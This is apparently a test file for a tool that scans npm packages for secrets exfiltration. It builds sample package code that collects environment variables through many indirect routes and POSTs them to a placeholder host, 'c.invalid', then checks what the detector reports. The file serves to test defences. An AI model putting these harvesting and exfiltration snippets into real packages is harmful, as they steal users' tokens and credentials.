import t from 'tap'
import { inspect } from '../../src/inspection/inspect.ts'
import { readAsOf } from '../../src/model/artifact.ts'
import { sha256 } from '../../src/model/digest.ts'
import { readingOf } from './python-reading.ts'

const job = { digest: sha256('x'), readAs: readAsOf({ kind: 'npm-tarball', filename: 'x.tgz' }) }

/** What is told to be sent of the variables by a package that does so when it is imported. */
async function sent(taking: string): Promise<string> {
  const code = `const all = {}; ${taking}; fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(all) })`
  const { findings } = await inspect(
    readingOf('npm-tarball', { 'package.json': '{"main":"i.js"}', 'i.js': code, 'names.txt': '' }),
    job,
  )
  return findings.find(({ check }) => check === 'secrets-exfiltration')?.message ?? 'nothing'
}

const NAMES = `require('fs').readFileSync('names.txt', 'utf8').split(',')`

t.test('a variable that another one names is one, unless the program says which it is', async (t) => {
  const one = /^reads the variable that process\.env\.\S+ names/
  const whole = /^reads all of process\.env/
  const rows: readonly (readonly [situation: string, taking: string, told: RegExp])[] = [
    ['one', 'all.a = process.env[process.env.MY_TOKEN]', one],
    [
      'one that callers ask for, too',
      `const v = (e) => { if (e === undefined) e = process.env['PG' + all.b]; else e = process.env[e]; return e }
       all.a = v(); all.c = v('PGDATABASE')`,
      /^reads (?:the variable that )?process\.env\.PG…/,
    ],
    [
      'all, one after another',
      'for (const k in process.env) { process.env.MY_TOKEN = k; all[k] = process.env[process.env.MY_TOKEN] }',
      whole,
    ],
    [
      'by Object.assign',
      `for (const k of ${NAMES}) { Object.assign(process.env, { MY_TOKEN: k }); all[k] = process.env[process.env.MY_TOKEN] }`,
      whole,
    ],
    [
      'by Reflect.set',
      `for (const k of ${NAMES}) { Reflect.set(process.env, 'MY_TOKEN', k); all[k] = process.env[process.env.MY_TOKEN] }`,
      whole,
    ],
    [
      'by Object.defineProperty',
      `for (const k of ${NAMES}) { Object.defineProperty(process.env, 'MY_TOKEN', { value: k }); all[k] = process.env[process.env.MY_TOKEN] }`,
      whole,
    ],
    [
      'by a variable that stood for one',
      'let n = process.env.MY_TOKEN; for (n in process.env) all[n] = process.env[n]',
      whole,
    ],
    [
      'by names from elsewhere',
      `let n = process.env.MY_TOKEN; for (const k of ${NAMES}) { n = k; all[n] = process.env[n] }`,
      whole,
    ],
    ['by one or the other', `for (const k of ${NAMES}) all[k] = process.env[process.env.MY_TOKEN || k]`, whole],
  ]
  for (const [situation, taking, told] of rows) t.match(await sent(taking), told, situation)
})
